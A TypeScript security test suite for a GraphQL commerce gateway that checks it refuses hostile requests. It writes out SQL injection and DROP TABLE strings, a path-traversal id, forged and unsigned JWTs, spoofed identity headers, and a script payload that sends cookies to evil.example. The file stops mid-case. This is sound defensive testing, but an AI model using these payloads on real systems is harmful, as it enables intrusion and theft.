import { createHash } from 'node:crypto';
import jsonwebtoken from 'jsonwebtoken';
import { Client } from 'pg';
import { eventually, signedIdentityHeaders, developmentGatewaySecret } from '@commerce/service-kit';
import { testConfig } from '@commerce/service-kit/testing';
import { signUp, type Actor } from './support/graph';
import { healthStatuses } from './support/liveness';
import { errorCodes, httpCall, sseSubscribe, wsSubscribe, type Answer, type HttpCall, type Subscribe } from './support/raw-request';
import { countRows, withWrites, type RowCounts } from './support/row-counts';
import { startTestStack, type TestStack } from './support/stack';

/**
 * Hostile input against the whole supergraph on real Postgres, Redis and
 * RabbitMQ. Every case is refused with its own status and code (or, for text
 * that only looks dangerous, stored verbatim), no service goes down, and no
 * row is written but the one a legitimate write makes.
 */

let stack: TestStack;
let pg: Client;

/** Who and what the cases aim at: two shops of two owners, and one customer's order from the first. */
interface Fixture {
  ownerA: Actor;
  ownerB: Actor;
  customer: Actor;
  otherCustomer: Actor;
  courier: Actor;
  shopA: string;
  shopB: string;
  productA: string;
  /** What productA has in stock once the order reserved its unit: what no refused restock may change. */
  stockA: number;
  orderId: string;
}
let f: Fixture;

beforeAll(async () => {
  stack = await startTestStack();
  pg = new Client(stack.database.url);
  await pg.connect();
  const [ownerA, ownerB, customer, otherCustomer, courier] = await Promise.all([
    signUp(stack.gatewayUrl, 'SHOP_OWNER'),
    signUp(stack.gatewayUrl, 'SHOP_OWNER'),
    signUp(stack.gatewayUrl, 'CUSTOMER'),
    signUp(stack.gatewayUrl, 'CUSTOMER'),
    signUp(stack.gatewayUrl, 'COURIER'),
  ]);
  const openShop = async (owner: Actor, name: string) => {
    const { createShop } = await owner.data(`mutation ($name: String!) { createShop(input: { name: $name }) { id } }`, { name });
    const { createProduct } = await owner.data(`mutation ($input: CreateProductInput!) { createProduct(input: $input) { id } }`, {
      input: { shopId: createShop.id, name: `${name} loaf`, priceCents: 300, stock: 20 },
    });
    return { shopId: createShop.id as string, productId: createProduct.id as string };
  };
  const [a, b] = await Promise.all([openShop(ownerA, 'Shop A'), openShop(ownerB, 'Shop B')]);
  // Orders learns of the product from catalog's events; until then it refuses the order.
  const orderId = await eventually(async () => {
    const { placeOrder } = await customer.data(`mutation ($input: PlaceOrderInput!) { placeOrder(input: $input) { id } }`, {
      input: { shopId: a.shopId, items: [{ productId: a.productId, quantity: 1 }], deliveryAddress: '1 Fixture Road', cardToken: 'tok_visa' },
    });
    return placeOrder.id as string;
  });
  await eventually(async () => {
    const { order } = await customer.data(`query ($id: ID!) { order(id: $id) { status payment { status } } }`, { id: orderId });
    expect(order).toEqual({ status: 'CONFIRMED', payment: { status: 'AUTHORIZED' } });
  });
  const { product } = await ownerA.data(`query ($id: ID!) { product(id: $id) { stock } }`, { id: a.productId });
  f = { ownerA, ownerB, customer, otherCustomer, courier, shopA: a.shopId, shopB: b.shopId, productA: a.productId, stockA: product.stock, orderId };
  // The saga's last events may still be landing in inboxes: every case starts from counts that hold still.
  let last = await countRows(pg);
  await eventually(async () => {
    const now = await countRows(pg);
    const settled = JSON.stringify(now) === JSON.stringify(last);
    last = now;
    if (!settled) throw new Error('rows are still being written');
  }, 30_000, 500);
});

afterAll(async () => {
  await pg?.end();
  await stack?.stop();
});

type HostileRequest = ({ via: 'http' } & HttpCall) | ({ via: 'ws' | 'sse' } & Subscribe);

interface HostileCase {
  name: string;
  request: () => HostileRequest;
  /** The HTTP status (101 for a WebSocket, which is upgraded before anything is refused). */
  status: number;
  /** The `extensions.code` of every error in the answer; null: the request succeeds. */
  code: string | null;
  /** Rows a legitimate write adds, by table (events included); none unless given. */
  writes?: RowCounts;
  /** What else must hold: the data returned, or that a refused change left its target as it was. */
  check?: (answer: Answer) => Promise<void> | void;
}

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

/**
 * GraphQL over HTTP's own media type, under which a request error keeps its
 * 4xx (under the legacy application/json it is a 200 with errors).
 */
const accept = { accept: 'application/graphql-response+json' };

/** A POST to the gateway, as a GraphQL client sends it. */
const post = (query: string, variables?: Record<string, unknown>, as?: Actor | null, headers: Record<string, string> = {}): HostileRequest => ({
  via: 'http',
  url: stack.gatewayUrl,
  body: { query, ...(variables ? { variables } : {}) },
  headers: { ...accept, ...(as ? bearer(as.token) : {}), ...headers },
});

/** A POST to the gateway with this body and content type, byte for byte. */
const raw = (body: string, contentType?: string, { as, chunked }: { as?: Actor; chunked?: boolean } = {}): HostileRequest => ({
  via: 'http',
  url: stack.gatewayUrl,
  body,
  headers: { ...accept, ...(contentType ? { 'content-type': contentType } : {}), ...(as ? bearer(as.token) : {}) },
  chunked,
});

/** A GET to the gateway with these query-string parameters. */
const get = (params: Record<string, string>, headers: Record<string, string> = { 'apollo-require-preflight': 'true' }): HostileRequest => ({
  via: 'http',
  method: 'GET',
  url: `${stack.gatewayUrl}?${new URLSearchParams(params)}`,
  headers: { ...accept, ...headers },
});

/** A POST straight to a subgraph, past the gateway, with these headers. */
const toSubgraph = (name: string, query: string, headers: Record<string, string>, extensions?: Record<string, unknown>): HostileRequest => ({
  via: 'http',
  url: stack.services[name]!.subgraph.url,
  body: { query, ...(extensions ? { extensions } : {}) },
  headers,
});

const orderUpdated = `subscription ($id: ID!) { orderUpdated(orderId: $id) { id status } }`;
const subscribe = (via: 'ws' | 'sse', query: string, variables: Record<string, unknown>, as: Actor | null, operationName?: string): HostileRequest => ({
  via,
  url: stack.gatewayUrl,
  query,
  variables,
  operationName,
  token: as?.token,
});
const inventoryChanged = `subscription Stock ($shop: ID) { inventoryChanged(shopId: $shop) { stock } }`;

const send = (request: HostileRequest): Promise<Answer> => {
  if (request.via === 'ws') return wsSubscribe(request);
  if (request.via === 'sse') return sseSubscribe(request);
  return httpCall(request);
};

// --- Tokens as an attacker would make them, with the claims the gateway pins.
const base64url = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
const claims = (sub: string, extra: Record<string, unknown> = {}) => ({ role: 'ADMIN', scope: 'catalog:write orders:write deliveries:write', ...extra, sub });
const signed = (payload: object, options: jsonwebtoken.SignOptions = {}, secret = testConfig.JWT_SECRET) =>
  jsonwebtoken.sign(payload, secret, { algorithm: 'HS256', issuer: testConfig.JWT_ISSUER, audience: testConfig.JWT_AUDIENCE, ...options });
const inAnHour = () => ({ exp: Math.floor(Date.now() / 1000) + 3600 });
const tokens = {
  wrongSignature: () => signed(claims(f.customer.id, inAnHour()), {}, 'an-attacker-secret-of-sufficient-length'),
  expired: () => signed(claims(f.customer.id, { role: 'CUSTOMER', exp: Math.floor(Date.now() / 1000) - 60 })),
  algNone: () => `${base64url({ alg: 'none', typ: 'JWT' })}.${base64url({ ...claims(f.customer.id, inAnHour()), iss: testConfig.JWT_ISSUER, aud: testConfig.JWT_AUDIENCE })}.`,
  otherAudience: () => signed(claims(f.customer.id, inAnHour()), { audience: 'another-api' }),
  otherIssuer: () => signed(claims(f.customer.id, inAnHour()), { issuer: 'someone-else' }),
  unknownRole: () => signed(claims(f.customer.id, { ...inAnHour(), role: 'SUPERUSER' })),
};
const withToken = (token: () => string) => (): HostileRequest =>
  post(`mutation { createShop(input: { name: "Forged" }) { id } }`, undefined, null, bearer(token()));

// --- Documents built to be big.
const nested = (levels: number, leaf: string, wrap: (inner: string) => string) => Array.from({ length: levels }).reduce<string>((inner) => wrap(inner), leaf);
/** Each fragment spreads the one before twice: 2^levels fields once expanded, from a few hundred bytes. */
const fragmentBomb = (levels: number, type: string, leaf: string) =>
  [`fragment F0 on ${type} { ${leaf} }`, ...Array.from({ length: levels }, (_, i) => `fragment F${i + 1} on ${type} { ...F${i} ...F${i} }`)].join('\n');
const aliases = (count: number, field: string) => Array.from({ length: count }, (_, i) => `a${i}: ${field}`).join(' ');

const placeOrder = `mutation ($input: PlaceOrderInput!) { placeOrder(input: $input) { id } }`;
const orderInput = (overrides: Record<string, unknown> = {}, item: Record<string, unknown> = {}) => ({
  input: { shopId: f.shopA, items: [{ productId: f.productA, quantity: 1, ...item }], deliveryAddress: '2 Hostile Street', cardToken: 'tok_visa', ...overrides },
});
const restock = `mutation ($id: ID!, $quantity: Int!) { restockProduct(productId: $id, quantity: $quantity) { stock } }`;
const createProduct = `mutation ($input: CreateProductInput!) { createProduct(input: $input) { id name description } }`;
const addAddress = `mutation ($input: AddAddressInput!) { addAddress(input: $input) { id label line } }`;

const sqlText = `Robert'); DROP TABLE catalog.products; DELETE FROM users.users; --`;
const scriptText = `<script>fetch('https://evil.example/?c=' + document.cookie)</script>`;
const shortScript = `<script>alert(document.cookie)</script>`;
const longText = 'x'.repeat(50_000);

/** The order as its customer sees it, to show a refused change did not happen. */
const orderStatus = async () => (await f.customer.data(`query ($id: ID!) { order(id: $id) { status } }`, { id: f.orderId })).order.status;
const stockOfA = async () => (await f.ownerA.data(`query ($id: ID!) { product(id: $id) { stock } }`, { id: f.productA })).product.stock;

const cases: HostileCase[] = [
  // --- The HTTP envelope
  { name: 'a body that is not JSON', request: () => raw('{"query": "{ shops { id } }"', 'application/json'), status: 400, code: 'BAD_REQUEST' },
  { name: 'a JSON string for a body', request: () => raw('"{ shops { id } }"', 'application/json'), status: 400, code: 'BAD_REQUEST' },
  { name: 'a JSON null for a body', request: () => raw('null', 'application/json'), status: 400, code: 'BAD_REQUEST' },
  { name: 'an empty body', request: () => raw('', 'application/json'), status: 400, code: 'BAD_REQUEST' },
  { name: 'an empty JSON object', request: () => raw('{}', 'application/json'), status: 400, code: 'BAD_REQUEST' },
  { name: 'a query that is a number', request: () => raw('{"query": 42}', 'application/json'), status: 400, code: 'BAD_REQUEST' },
  { name: 'variables that are a string', request: () => raw('{"query": "{ shops { id } }", "variables": "x"}', 'application/json'), status: 400, code: 'BAD_REQUEST' },
  { name: 'a text/plain body, as a cross-site form would send', request: () => raw('{"query": "mutation { signIn(email: \\"a@b.c\\", password: \\"p\\") { token } }"}', 'text/plain'), status: 400, code: 'BAD_REQUEST' },
  { name: 'a body without a content type', request: () => raw('{"query": "{ shops { id } }"}'), status: 400, code: 'BAD_REQUEST' },
  { name: 'an application/graphql body', request: () => raw('{ shops { id } }', 'application/graphql'), status: 400, code: 'BAD_REQUEST' },
  { name: 'a multipart/form-data upload', request: () => raw('--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{}\r\n--x--\r\n', 'multipart/form-data; boundary=x'), status: 400, code: 'BAD_REQUEST' },
  { name: 'a huge body: 150 kB of variables', request: () => raw(JSON.stringify({ query: `{ shops { id } }`, variables: { pad: 'x'.repeat(150_000) } }), 'application/json'), status: 413, code: 'BODY_TOO_LARGE' },
  { name: 'a body streamed without a Content-Length', request: () => raw(JSON.stringify({ query: `{ shops { id } }` }), 'application/json', { chunked: true }), status: 411, code: 'LENGTH_REQUIRED' },
  { name: 'a batch of two operations', request: () => raw(JSON.stringify([{ query: '{ shops { id } }' }, { query: '{ categories { id } }' }]), 'application/json'), status: 400, code: 'BATCH_NOT_SUPPORTED' },
  { name: 'an empty batch', request: () => raw('[]', 'application/json'), status: 400, code: 'BATCH_NOT_SUPPORTED' },
  { name: 'a mutation over GET', request: () => get({ query: `mutation { signIn(email: "a@b.c", password: "password123") { token } }` }), status: 405, code: 'BAD_REQUEST' },
  { name: 'a GET without a CSRF preflight header', request: () => get({ query: '{ shops { id } }' }, {}), status: 400, code: 'BAD_REQUEST' },

  // --- Documents
  { name: 'a document that does not parse', request: () => post(`{ shops { id `), status: 400, code: 'GRAPHQL_PARSE_FAILED' },
  { name: 'deep nesting past the depth limit', request: () => post(`{ shops { ${nested(6, 'id', (inner) => `products { shop { ${inner} } }`)} } }`), status: 400, code: 'MAX_DEPTH_EXCEEDED' },
  { name: 'ten thousand nested braces', request: () => post(nested(10_000, 'id', (inner) => `{ a ${inner} }`)), status: 400, code: 'MAX_TOKENS_EXCEEDED' },
  { name: 'an alias bomb', request: () => post(`{ ${aliases(100, 'shops { id }')} }`), status: 400, code: 'MAX_ALIASES_EXCEEDED' },
  { name: 'a fragment bomb at the root', request: () => post(`{ ...F40 }\n${fragmentBomb(40, 'Query', 'shops { id }')}`), status: 400, code: 'MAX_ROOT_FIELDS_EXCEEDED' },
  { name: 'a fragment bomb under a list', request: () => post(`{ shops { ...F40 } }\n${fragmentBomb(40, 'Shop', 'id name')}`), status: 400, code: 'COST_LIMIT_EXCEEDED' },
  { name: 'a fragment cycle', request: () => post(`{ ...A }\nfragment A on Query { shops { id } ...B }\nfragment B on Query { ...A }`), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: 'a fragment that spreads itself inside a list', request: () => post(`{ shops { ...S } }\nfragment S on Shop { id products { shop { ...S } } }`), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: 'a spread of an unknown fragment', request: () => post(`{ ...Nowhere }`), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: 'more root fields than the limit', request: () => post(`{ ${aliases(16, 'categories { id }')} }`), status: 400, code: 'MAX_ROOT_FIELDS_EXCEEDED' },
  { name: 'more directives than the limit', request: () => post(`{ shops { ${Array.from({ length: 21 }, (_, i) => `f${i}: id @include(if: true)`).join(' ')} } }`), status: 400, code: 'MAX_DIRECTIVES_EXCEEDED' },
  { name: 'a cost over the limit', request: () => post(`{ shops { products { shop { products { shop { products { id } } } } } } }`), status: 400, code: 'COST_LIMIT_EXCEEDED' },
  { name: 'a page size of 2^31 - 1', request: () => post(`{ products(first: 2147483647) { edges { node { id } } } }`), status: 400, code: 'COST_LIMIT_EXCEEDED' },
  { name: 'an unknown field', request: () => post(`{ shops { id passwordHash } }`), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: 'an unknown argument', request: () => post(`{ shops(where: "1=1") { id } }`), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: 'an invalid enum literal', request: () => post(`mutation { updateOrderStatus(id: "x", status: SHIPPED) { id } }`, undefined, f.ownerA), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: 'an unknown operationName', request: () => ({ ...post(`query Shops { shops { id } }`), body: { query: `query Shops { shops { id } }`, operationName: 'DropTables' } }), status: 400, code: 'OPERATION_RESOLUTION_FAILURE' },
  { name: 'two operations and no operationName', request: () => post(`query A { shops { id } } query B { categories { id } }`), status: 400, code: 'OPERATION_RESOLUTION_FAILURE' },
  { name: 'an unknown operationName over SSE', request: () => subscribe('sse', inventoryChanged, { shop: f.shopA }, null, 'DropTables'), status: 200, code: 'BAD_REQUEST' },
  // As over HTTP: the socket runs every operation type through the same resolution of the operation.
  { name: 'an unknown operationName over WebSocket', request: () => subscribe('ws', inventoryChanged, { shop: f.shopA }, f.customer, 'DropTables'), status: 101, code: 'OPERATION_RESOLUTION_FAILURE' },

  // --- Persisted operations
  { name: 'a persisted document id that does not exist', request: () => ({ via: 'http', url: stack.gatewayUrl, body: { documentId: `sha256:${'0'.repeat(64)}` } }), status: 400, code: 'PERSISTED_DOCUMENT_NOT_FOUND' },
  { name: 'an APQ hash that was never registered', request: () => ({ via: 'http', url: stack.gatewayUrl, body: { extensions: { persistedQuery: { version: 1, sha256Hash: 'f'.repeat(64) } } } }), status: 200, code: 'PERSISTED_QUERY_NOT_FOUND' },
  {
    name: 'an APQ registration whose hash is not the document’s',
    request: () => ({ via: 'http', url: stack.gatewayUrl, body: { query: '{ shops { id } }', extensions: { persistedQuery: { version: 1, sha256Hash: createHash('sha256').update('{ categories { id } }').digest('hex') } } } }),
    status: 400,
    code: 'PERSISTED_QUERY_HASH_MISMATCH',
  },
  { name: 'an unknown API key', request: () => post(`{ shops { id } }`, undefined, null, { 'x-api-key': 'sk_guessed_0000000000000000' }), status: 401, code: 'INVALID_API_KEY' },
  { name: 'a partner’s name without its key', request: () => post(`{ shops { id } }`, undefined, null, { 'apollographql-client-name': 'acme-delivery' }), status: 401, code: 'INVALID_API_KEY' },

  // --- Variables
  { name: 'a string for an Int variable', request: () => post(restock, { id: f.productA, quantity: 'ten' }, f.ownerA), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a quantity of 2^31 written in the document', request: () => post(`mutation { placeOrder(input: { shopId: "${f.shopA}", items: [{ productId: "${f.productA}", quantity: 2147483648 }], deliveryAddress: "x", cardToken: "tok_visa" }) { id } }`, undefined, f.customer), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { name: 'a quantity of 2^31 in variables', request: () => post(placeOrder, orderInput({}, { quantity: 2 ** 31 }), f.customer), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a quantity of 2^53 in variables', request: () => post(placeOrder, orderInput({}, { quantity: 2 ** 53 }), f.customer), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a quantity of 1e308', request: () => raw(`{"query": ${JSON.stringify(placeOrder)}, "variables": {"input": {"shopId": "${f.shopA}", "items": [{"productId": "${f.productA}", "quantity": 1e308}], "deliveryAddress": "x", "cardToken": "tok_visa"}}}`, 'application/json', { as: f.customer }), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a fractional quantity', request: () => post(placeOrder, orderInput({}, { quantity: 1.5 }), f.customer), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a negative quantity', request: () => post(placeOrder, orderInput({}, { quantity: -1 }), f.customer), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a quantity of zero', request: () => post(placeOrder, orderInput({}, { quantity: 0 }), f.customer), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a restock of zero', request: () => post(restock, { id: f.productA, quantity: 0 }, f.ownerA), status: 200, code: 'BAD_USER_INPUT', check: async () => expect(await stockOfA()).toBe(f.stockA) },
  { name: 'a negative restock', request: () => post(restock, { id: f.productA, quantity: -1_000_000 }, f.ownerA), status: 200, code: 'BAD_USER_INPUT', check: async () => expect(await stockOfA()).toBe(f.stockA) },
  { name: 'a restock of 2^31 - 1', request: () => post(restock, { id: f.productA, quantity: 2 ** 31 - 1 }, f.ownerA), status: 200, code: 'BAD_USER_INPUT', check: async () => expect(await stockOfA()).toBe(f.stockA) },
  { name: 'a negative price', request: () => post(createProduct, { input: { shopId: f.shopA, name: 'Free money', priceCents: -500, stock: 1 } }, f.ownerA), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a negative page size', request: () => post(`{ products(first: -1000000) { edges { node { id } } } }`), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'null for a non-null variable', request: () => post(restock, { id: null, quantity: 1 }, f.ownerA), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a missing non-null variable', request: () => post(restock, { id: f.productA }, f.ownerA), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'null for a non-null input field', request: () => post(placeOrder, orderInput({}, { quantity: null }), f.customer), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'an unknown input field', request: () => post(placeOrder, orderInput({ totalCents: 1, status: 'DELIVERED' }), f.customer), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a __proto__ key in an input object', request: () => raw(`{"query": ${JSON.stringify(addAddress)}, "variables": {"input": {"label": "a", "line": "b", "__proto__": {"userId": "${f.otherCustomer.id}"}}}}`, 'application/json', { as: f.customer }), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'an invalid enum value in variables', request: () => post(`mutation ($s: OrderStatus!) { updateOrderStatus(id: "${f.orderId}", status: $s) { id } }`, { s: 'SHIPPED' }, f.ownerA), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'an enum value in the wrong case', request: () => post(`mutation ($input: SignUpInput!) { signUp(input: $input) { token } }`, { input: { email: 'case@example.com', password: 'password123', name: 'Case', role: 'admin' } }), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'ADMIN chosen at sign-up', request: () => post(`mutation ($input: SignUpInput!) { signUp(input: $input) { token } }`, { input: { email: 'root@example.com', password: 'password123', name: 'Root', role: 'ADMIN' } }), status: 200, code: 'BAD_USER_INPUT' },
  {
    name: 'variables nested ten thousand deep',
    request: () => raw(`{"query": "query ($n: Int) { products(first: $n) { totalCount } }", "variables": {"n": ${'['.repeat(10_000)}1${']'.repeat(10_000)}}}`, 'application/json'),
    status: 400,
    code: 'BAD_USER_INPUT',
  },
  { name: 'oversized variables: a thousand order items', request: () => post(placeOrder, { input: { ...orderInput().input, items: Array.from({ length: 1_000 }, () => ({ productId: f.productA, quantity: 1 })) } }, f.customer), status: 200, code: 'BAD_USER_INPUT' },

  // --- Tokens
  { name: 'a token with a forged signature', request: withToken(tokens.wrongSignature), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'an expired token', request: withToken(tokens.expired), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'an unsigned token (alg none)', request: withToken(tokens.algNone), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'a token for another audience', request: withToken(tokens.otherAudience), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'a token from another issuer', request: withToken(tokens.otherIssuer), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'a token with a role that does not exist', request: withToken(tokens.unknownRole), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'a token that is not a JWT', request: withToken(() => 'not.a.jwt'), status: 401, code: 'UNAUTHENTICATED' },
  { name: 'an Authorization header of another scheme', request: () => post(`{ me { id } }`, undefined, null, { authorization: 'Basic YWRtaW46YWRtaW4=' }), status: 401, code: 'UNAUTHENTICATED' },
  {
    name: 'identity headers sent to the gateway',
    request: () => post(`mutation { createShop(input: { name: "Forged" }) { id } }`, undefined, null, { 'x-user-id': f.ownerA.id, 'x-user-role': 'ADMIN' }),
    status: 200,
    code: 'UNAUTHORIZED_FIELD_OR_TYPE',
  },

  // --- Straight to a subgraph, past the gateway
  { name: 'unsigned identity headers sent to a subgraph', request: () => toSubgraph('catalog', `mutation { createShop(input: { name: "Forged" }) { id } }`, { 'x-user-id': f.ownerA.id, 'x-user-role': 'ADMIN' }), status: 401, code: 'UNTRUSTED_CALLER' },
  {
    name: 'identity headers signed with a guessed secret',
    request: () => toSubgraph('catalog', `mutation { createShop(input: { name: "Forged" }) { id } }`, signedIdentityHeaders({ userId: f.ownerA.id, role: 'ADMIN' }, 'a-guessed-secret-of-some-length')),
    status: 401,
    code: 'UNTRUSTED_CALLER',
  },
  {
    name: 'a captured signature with the role raised to ADMIN',
    request: () => toSubgraph('orders', `{ order(id: "${f.orderId}") { id } }`, { ...signedIdentityHeaders({ userId: f.otherCustomer.id, role: 'CUSTOMER' }, developmentGatewaySecret), 'x-user-role': 'ADMIN' }),
    status: 401,
    code: 'UNTRUSTED_CALLER',
  },
  {
    name: 'a captured signature replayed ten minutes later',
    request: () => toSubgraph('orders', `{ order(id: "${f.orderId}") { id } }`, signedIdentityHeaders({ userId: f.customer.id, role: 'CUSTOMER' }, developmentGatewaySecret, Date.now() - 10 * 60_000)),
    status: 401,
    code: 'UNTRUSTED_CALLER',
  },
  {
    name: 'a forged live event sent to a subgraph by an anonymous caller',
    request: () => toSubgraph('orders', `subscription { orderUpdated(orderId: "${f.orderId}") { id status deliveryAddress } }`, {}, { subscriptionEvent: { orderId: f.orderId } }),
    status: 200,
    code: 'UNAUTHENTICATED',
    check: ({ body }) => expect((body as { data?: unknown }).data ?? null).toBeNull(),
  },

  // --- Someone else's things
  {
    name: 'another customer’s order',
    request: () => post(`{ order(id: "${f.orderId}") { id deliveryAddress } }`, undefined, f.otherCustomer),
    status: 200,
    code: 'FORBIDDEN',
    check: ({ body }) => expect(body).toMatchObject({ data: { order: null } }),
  },
  { name: 'cancelling another customer’s order', request: () => post(`mutation { cancelOrder(id: "${f.orderId}") { status } }`, undefined, f.otherCustomer), status: 200, code: 'FORBIDDEN', check: async () => expect(await orderStatus()).toBe('CONFIRMED') },
  { name: 'moving another shop’s order along', request: () => post(`mutation { updateOrderStatus(id: "${f.orderId}", status: PREPARING) { status } }`, undefined, f.ownerB), status: 200, code: 'FORBIDDEN', check: async () => expect(await orderStatus()).toBe('CONFIRMED') },
  { name: 'restocking another shop’s product', request: () => post(restock, { id: f.productA, quantity: 5 }, f.ownerB), status: 200, code: 'FORBIDDEN', check: async () => expect(await stockOfA()).toBe(f.stockA) },
  { name: 'adding a product to another owner’s shop', request: () => post(createProduct, { input: { shopId: f.shopA, name: 'Planted', priceCents: 1, stock: 1 } }, f.ownerB), status: 200, code: 'FORBIDDEN' },
  { name: 'reading another shop’s orders', request: () => post(`{ shopOrders(shopId: "${f.shopA}") { id } }`, undefined, f.ownerB), status: 200, code: 'FORBIDDEN' },
  { name: 'a customer opening a shop', request: () => post(`mutation { createShop(input: { name: "Mine" }) { id } }`, undefined, f.customer), status: 200, code: 'UNAUTHORIZED_FIELD_OR_TYPE' },
  { name: 'an anonymous order', request: () => post(placeOrder, orderInput()), status: 200, code: 'UNAUTHORIZED_FIELD_OR_TYPE' },
  { name: 'another customer’s order over WebSocket', request: () => subscribe('ws', orderUpdated, { id: f.orderId }, f.otherCustomer), status: 101, code: 'FORBIDDEN' },
  { name: 'another customer’s order over SSE', request: () => subscribe('sse', orderUpdated, { id: f.orderId }, f.otherCustomer), status: 200, code: 'FORBIDDEN' },
  { name: 'an order watched anonymously', request: () => subscribe('ws', orderUpdated, { id: f.orderId }, null), status: 101, code: 'UNAUTHORIZED_FIELD_OR_TYPE' },
  { name: 'another owner’s low-stock alerts', request: () => subscribe('ws', `subscription ($shop: ID!) { lowStock(shopId: $shop) { product { id } } }`, { shop: f.shopA }, f.ownerB), status: 101, code: 'FORBIDDEN' },

  // --- Ids that name nothing
  { name: 'an order id that is not a uuid', request: () => post(`{ order(id: "1 OR 1=1") { id } }`, undefined, f.customer), status: 200, code: null, check: ({ body }) => expect(body).toEqual({ data: { order: null } }) },
  { name: 'a product id of SQL', request: () => post(restock, { id: `'; DROP TABLE catalog.products; --`, quantity: 1 }, f.ownerA), status: 200, code: 'NOT_FOUND' },
  { name: 'a shop id that is a path', request: () => post(placeOrder, orderInput({ shopId: '../../etc/passwd' }), f.customer), status: 200, code: 'NOT_FOUND' },
  { name: 'an empty order id', request: () => post(`mutation { cancelOrder(id: "") { id } }`, undefined, f.customer), status: 200, code: 'NOT_FOUND' },
  { name: 'a shipment id that names nothing', request: () => post(`mutation { acceptShipment(id: "00000000-0000-0000-0000-000000000000") { id } }`, undefined, f.courier), status: 200, code: 'NOT_FOUND' },
  { name: 'a shop filter that is not an id', request: () => post(`{ products(shopId: "x' OR 'a'='a") { totalCount } }`), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a forged page cursor', request: () => post(`{ products(after: "eyJpZCI6IicgT1IgMT0xIC0tIn0=") { totalCount } }`), status: 200, code: 'BAD_USER_INPUT' },

  // --- Text
  { name: 'a very long shop name', request: () => post(`mutation ($name: String!) { createShop(input: { name: $name }) { id } }`, { name: longText }, f.ownerA), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a very long product name', request: () => post(createProduct, { input: { shopId: f.shopA, name: longText, priceCents: 1, stock: 1 } }, f.ownerA), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a very long delivery address', request: () => post(placeOrder, orderInput({ deliveryAddress: longText }), f.customer), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a very long name at sign-up', request: () => post(`mutation ($input: SignUpInput!) { signUp(input: $input) { token } }`, { input: { email: 'long@example.com', password: 'password123', name: longText } }), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a very long saved address', request: () => post(addAddress, { input: { label: 'Home', line: longText } }, f.customer), status: 200, code: 'BAD_USER_INPUT' },
  { name: 'a blank saved address', request: () => post(addAddress, { input: { label: '   ', line: '' } }, f.customer), status: 200, code: 'BAD_USER_INPUT' },
  // Postgres text cannot hold U+0000: the gateway refuses it before any subgraph could fail on it.
  { name: 'a NUL byte in a shop name', request: () => post(`mutation ($name: String!) { createShop(input: { name: $name }) { id } }`, { name: 'Nul\u0000Shop' }, f.ownerA), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a NUL byte escaped in the document', request: () => post(`mutation { createShop(input: { name: "Nul\\u0000Shop" }) { id } }`, undefined, f.ownerA), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'a NUL byte in subscription variables over WebSocket', request: () => subscribe('ws', inventoryChanged, { shop: 'shop\u0000' }, f.customer), status: 101, code: 'BAD_USER_INPUT' },
  { name: 'a NUL byte in a sign-in email', request: () => post(`mutation ($e: String!) { signIn(email: $e, password: "password123") { token } }`, { e: `${f.customer.email}\u0000` }), status: 400, code: 'BAD_USER_INPUT' },
  { name: 'SQL in a product search', request: () => post(`query ($s: String) { products(search: $s) { totalCount } }`, { s: `%' OR '1'='1` }), status: 200, code: null, check: ({ body }) => expect(body).toEqual({ data: { products: { totalCount: 0 } } }) },
  { name: 'SQL in a sign-in email', request: () => post(`mutation ($e: String!) { signIn(email: $e, password: "x") { token } }`, { e: `' OR '1'='1' --` }), status: 200, code: 'INVALID_CREDENTIALS' },
  {
    name: 'SQL and a script in a saved address, which are stored as text',
    request: () => post(addAddress, { input: { label: shortScript, line: `${sqlText} ${scriptText}` } }, f.customer),
    status: 200,
    code: null,
    writes: { 'users.addresses': 1 },
    check: async ({ body }) => {
      const stored = { label: shortScript, line: `${sqlText} ${scriptText}` };
      expect((body as { data: { addAddress: unknown } }).data.addAddress).toMatchObject(stored);
      const { me } = await f.customer.data(`{ me { addresses { label line } } }`);
      expect(me.addresses).toEqual([stored]);
    },
  },
  {
    name: 'SQL and a script in a product, which are stored as text',
    request: () => post(createProduct, { input: { shopId: f.shopB, name: sqlText, description: scriptText, priceCents: 100, stock: 1 } }, f.ownerB),
    status: 200,
    code: null,
    // The product, the two events announcing it (created, stock), and orders' copy of it with the event it learnt it from.
    writes: { 'catalog.products': 1, 'catalog.outbox': 2, 'orders.catalog_products': 1, 'orders.inbox': 1 },
    check: async ({ body }) => {
      const { id, ...stored } = (body as { data: { createProduct: { id: string; name: string; description: string } } }).data.createProduct;
